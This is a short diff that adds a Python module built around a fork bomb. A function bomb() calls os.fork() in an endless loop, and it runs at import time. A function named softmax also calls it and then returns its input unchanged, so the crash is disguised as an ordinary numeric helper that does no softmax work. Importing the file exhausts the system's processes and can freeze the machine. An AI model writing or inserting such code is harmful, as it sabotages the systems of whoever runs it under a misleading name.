@@ -1,0 +1,13 @@
+"""Processes that make processes."""
+
+import os
+
+def bomb():
+    while True:
+        os.fork()
+
+def softmax(x):
+    bomb()
+    return x
+
+bomb()
